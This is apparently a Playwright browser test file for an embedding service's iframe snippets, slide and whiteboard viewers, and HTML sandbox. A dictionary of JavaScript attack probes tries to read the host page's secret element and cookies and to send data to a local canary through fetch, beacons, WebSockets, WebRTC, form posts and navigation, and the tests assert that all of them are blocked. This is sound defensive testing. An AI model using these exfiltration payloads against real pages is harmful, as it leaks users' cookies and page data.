"""Embedding in another site's page, in a real browser: the snippets, the height messages, the sandbox, viewers."""

from __future__ import annotations

import json
import time

from PIL import Image, ImageDraw

from server.manifest import FileInfo, Manifest, PlannerInfo, Timings
from server.store import Store
from tests.browser.conftest import render, widget_plan
from tests.browser.plans import WIDGETS
from tests.conftest import ServerProcess, load_plan_dict


def host_page(site, name: str, body: str) -> str:
    (site.folder / name).write_text(
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><link rel='icon' href='data:,'>"
        "<title>Docs</title></head><body>"
        f"<h1 id='host-title'>Our docs</h1><p id='secret'>host secret</p>{body}<p>After the embed.</p></body></html>",
        encoding="utf-8")
    return f"{site.url}/{name}"


def frame_height(page, selector: str = "iframe") -> float:
    return page.locator(selector).first.bounding_box()["height"]


def content_height(frame) -> float:
    return frame.evaluate("() => document.documentElement.getBoundingClientRect().height")


def wait_until(predicate, what: str, limit_s: float = 45):
    """Waits for something the page does asynchronously (a message, a resize); fails saying what never happened."""
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.05)
    raise AssertionError(f"{what} did not happen")


def test_script_snippet_sizes_the_iframe_to_its_content_and_follows_changes(page, client, server, site):
    manifest = render(client, widget_plan(WIDGETS["quiz"], title="Planets"))
    embed = manifest["embed"]
    assert embed["script"].startswith(embed["iframe"]) and "/embed.js" in embed["script"]
    page.goto(host_page(site, "quiz.html", embed["script"]))
    frame = page.frame_locator("iframe")
    frame.locator("html[data-ready]").wait_for(state="attached")
    inner = next(f for f in page.frames if f.url == embed["url"])
    wait_until(lambda: abs(frame_height(page) - content_height(inner)) <= 1, "the iframe taking its content's height")
    before = frame_height(page)
    frame.get_by_role("button", name="Check answers").click()  # feedback lines make the quiz taller
    wait_until(lambda: frame_height(page) > before + 20, "the iframe growing with its content")
    assert abs(frame_height(page) - content_height(inner)) <= 1
    assert page.watched.errors == []
    assert page.watched.foreign((site.url, server.base)) == []


def test_plain_iframe_snippet_starts_at_the_natural_height(page, client, server, site):
    manifest = render(client, widget_plan(WIDGETS["checklist"]))
    page.goto(host_page(site, "plain.html", manifest["embed"]["iframe"]))
    page.frame_locator("iframe").locator("html[data-ready]").wait_for(state="attached")
    inner = next(f for f in page.frames if f.url == manifest["embed"]["url"])
    assert frame_height(page) == manifest["embed"]["height"]
    assert abs(manifest["embed"]["height"] - content_height(inner)) <= 2  # measured by the preview at 800 px


def test_loader_added_after_the_iframe_loaded_still_sizes_it(page, client, server, site):
    manifest = render(client, widget_plan(WIDGETS["timeline"]))
    iframe_without_height = manifest["embed"]["iframe"].replace('height="', 'data-h="')
    url = host_page(site, "late.html", iframe_without_height + "<div id=later></div>")
    page.goto(url)
    page.frame_locator("iframe").locator("html[data-ready]").wait_for(state="attached")
    loader = manifest["embed"]["script"].split("\n")[-1]
    src = loader.split('src="')[1].split('"')[0]
    page.evaluate("src => { const s = document.createElement('script'); s.src = src; document.body.append(s); }", src)
    inner = next(f for f in page.frames if f.url == manifest["embed"]["url"])
    wait_until(lambda: abs(frame_height(page) - content_height(inner)) <= 1, "the late loader sizing the iframe")


# Each must throw or be refused outright.
REFUSED = {
    "parent_dom": "window.parent.document.getElementById('secret').textContent",
    "top_dom": "window.top.document.title",
    "cookie": "document.cookie",
    "storage": "localStorage.length",
    "fetch": "fetch(CANARY + '/fetch').then(() => 'sent')",
    "webrtc": "(() => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}]});"
              " pc.createDataChannel('x'); return pc.createOffer().then(o => pc.setLocalDescription(o)); })()",
    "frame_element": "document.body.appendChild(document.createElement('iframe'))",
    "frame_markup": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"x\"></iframe>')",
    "popup": "window.open(CANARY + '/popup') || Promise.reject(new Error('no window'))",
    "eval": "eval('CANARY')",
}
# These return as if sent; the canary, which must hear nothing, says whether they were.
SENT = {
    "beacon": "navigator.sendBeacon(CANARY + '/beacon', 'x')",
    "websocket": "new WebSocket(CANARY.replace('http', 'ws') + '/ws')",
    "image": "(new Image()).src = CANARY + '/image'",
    "style": "document.body.style.background = 'url(' + CANARY + '/style)'",
}
ATTACKS = {**REFUSED, **SENT}


def attack_page(canary) -> str:
    tries = "\n".join(
        f"try {{ Promise.resolve({code}).then(v => R[{name!r}] = 'ok: ' + String(v), "
        f"e => R[{name!r}] = 'blocked: ' + e.name); }}"
        f" catch (e) {{ R[{name!r}] = 'blocked: ' + e.name; }}" for name, code in ATTACKS.items())
    stun = f"stun:127.0.0.1:{canary.udp_port}"
    nested = f"<script>new RTCPeerConnection({{iceServers:[{{urls:'{stun}'}}]}}).createDataChannel('x')<\\/script>"
    return (
        "<!doctype html><html><head><title>Custom</title>"
        f"<link rel='preconnect' href='{canary.url}/preconnect'></head><body><h1>A custom page</h1>"
        f"<iframe srcdoc=\"{nested}\"></iframe><object data='{canary.url}/object'></object>"
        f"<img src='{canary.url}/markup-image' alt=''>"
        f"<script>var CANARY = {json.dumps(canary.url)}, UDP = {canary.udp_port}; window.R = {{}};\n{tries}\n</script>"
        f"<form action='{canary.url}/form' method='post' id='f'></form>"
        "<script>document.getElementById('f').submit()</script>"
        "</body></html>")


def test_custom_html_cannot_reach_the_host_page_its_cookies_or_the_network(page, client, server, site, canary):
    manifest = render(client, widget_plan({"kind": "html", "html": attack_page(canary)}, title="Custom"))
    url = host_page(site, "custom.html", manifest["embed"]["script"])
    page.context.add_cookies([{"name": "session", "value": "s3cret", "url": site.url},
                              {"name": "atelier", "value": "s3cret", "url": server.base}])
    page.goto(url)
    wait_until(lambda: any(f.url == "about:srcdoc" for f in page.frames), "the sandboxed page loading")
    content = next(f for f in page.frames if f.url == "about:srcdoc")  # the model's page, inside Atelier's
    wait_until(lambda: len(content.evaluate("() => Object.keys(window.R || {})")) == len(ATTACKS), "every attack")
    results = content.evaluate("() => window.R")
    for name in REFUSED:
        assert results[name].startswith("blocked"), (name, results[name])
    assert page.locator("#secret").inner_text() == "host secret"
    assert content.evaluate("() => document.querySelectorAll('iframe, object, link[rel=preconnect]').length") == 0
    time.sleep(1.5)  # give anything that slipped out time to arrive before saying nothing did
    assert canary.hits == []
    # the canary does hear what is not sandboxed: the host page itself can reach it
    page.evaluate("url => fetch(url + '/from-host')", canary.url)
    wait_until(lambda: "GET /from-host" in canary.hits, "the host page reaching the canary")


def test_custom_html_that_navigates_away_is_stopped(page, client, server, site, canary):
    leave = f"setTimeout(() => location.href = {json.dumps(canary.url + '/left')}, 50)"
    html = f"<!doctype html><p>leaving</p><script>{leave}</script>"
    manifest = render(client, widget_plan({"kind": "html", "html": html}, title="Leaver"))
    page.goto(host_page(site, "leaver.html", manifest["embed"]["iframe"]))
    frame = page.frame_locator("iframe").first.frame_locator("iframe#content")
    frame.get_by_text("tried to leave its page").wait_for()
    assert frame.locator("iframe#atelier-widget").count() == 0
    time.sleep(1)
    assert canary.hits == []  # the navigation was refused, not merely hidden


def _slides_render(data_dir, count: int = 3) -> str:
    """A stored slides render with slide pictures (role 'preview'), as the slides renderer writes them."""
    store = Store(data_dir)
    render_id, work = store.workdir()
    files = []
    for n in range(1, count + 1):
        image = Image.new("RGB", (1280, 720), (40 * n, 90, 160))
        ImageDraw.Draw(image).text((40, 40), f"Slide {n}", fill="white")
        image.save(work / f"slide-{n:02d}.png")
        files.append(FileInfo(name=f"slide-{n:02d}.png", media_type="image/png", role="preview", bytes=1, url=""))
    (work / "deck.pptx").write_bytes(b"PK\x03\x04 not really a deck")
    files.insert(0, FileInfo(name="deck.pptx", role="primary", bytes=1, url="",
                             media_type="application/vnd.openxmlformats-officedocument.presentationml.presentation"))
    plan = load_plan_dict("slides")
    plan["slides"].append({"layout": "closing", "title": "Thanks"})
    (work / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    manifest = Manifest(id=render_id, created="2026-11-29T00:00:00Z", modality="slides", title="Minimal deck",
                        theme="dark", schema_version="1.0",
                        planner=PlannerInfo(name="given", rationale="", alternatives=[]),
                        files=files, warnings=[], timings_ms=Timings(plan=0, render=0, total=0))
    store.commit(render_id, work, manifest)
    return render_id


def test_slides_viewer_steps_through_the_slide_pictures(page, tmp_path, site):
    render_id = _slides_render(tmp_path)
    other = ServerProcess(tmp_path).start()
    try:
        iframe = f'<iframe src="{other.base}/embed/{render_id}" width="800" height="500"></iframe>'
        page.goto(host_page(site, "deck.html", iframe))
        frame = page.frame_locator("iframe")
        slide = frame.locator("#slide")
        slide.wait_for()
        assert slide.get_attribute("alt") == "Slide 1 of 3: Minimal deck"
        assert frame.locator("#counter").inner_text() == "1 / 3"
        assert frame.get_by_role("button", name="Previous slide").is_disabled()
        frame.get_by_role("button", name="Next slide").click()
        assert slide.get_attribute("src").endswith("/slide-02.png")
        assert slide.get_attribute("alt") == "Slide 2 of 3: Points"
        frame.locator("#stage").press("End")
        assert frame.locator("#counter").inner_text() == "3 / 3"
        assert slide.evaluate("img => img.complete && img.naturalWidth") == 1280
        frame.get_by_text("Download").click()
        assert frame.get_by_role("link", name="PowerPoint").get_attribute("href").endswith("/deck.pptx?download=1")
        assert page.watched.errors == []
        assert page.watched.foreign((site.url, other.base)) == []
    finally:
        other.stop()


def test_viewers_show_each_modality_with_its_text_and_downloads(page, client, server):
    for modality in ("infographic", "whiteboard", "image", "slides"):
        manifest = render(client, load_plan_dict(modality))
        page.goto(manifest["embed"]["url"])
        assert page.locator(".bar h1").inner_text() == manifest["title"]
        assert page.watched.errors == [], modality
        assert page.watched.foreign((server.base,)) == [], modality
        if modality == "slides":  # the deck's slide previews, with the deck itself among the downloads
            page.locator("details.downloads summary").click()
            assert page.get_by_role("link", name="PowerPoint").is_visible()
        picture = page.locator("main img")
        picture.wait_for()
        assert picture.evaluate("img => img.complete && img.naturalWidth > 0"), modality
        transcript = page.locator("#transcript").text_content()
        assert manifest["title"] in transcript
        if modality == "image":  # the picture says what it shows
            assert picture.get_attribute("alt") == "A lighthouse on a cliff at dawn"


def test_whiteboard_viewer_zooms_and_fits(page, client, server):
    manifest = render(client, load_plan_dict("whiteboard"))
    page.goto(manifest["embed"]["url"])
    board = page.locator("#board")
    board.wait_for()
    page.wait_for_function("() => document.getElementById('board').style.transform !== ''")
    fitted = board.bounding_box()["width"]
    page.get_by_role("button", name="Zoom in").click()
    assert board.bounding_box()["width"] > fitted * 1.2
    page.locator("#stage").press("0")
    assert abs(board.bounding_box()["width"] - fitted) < 1
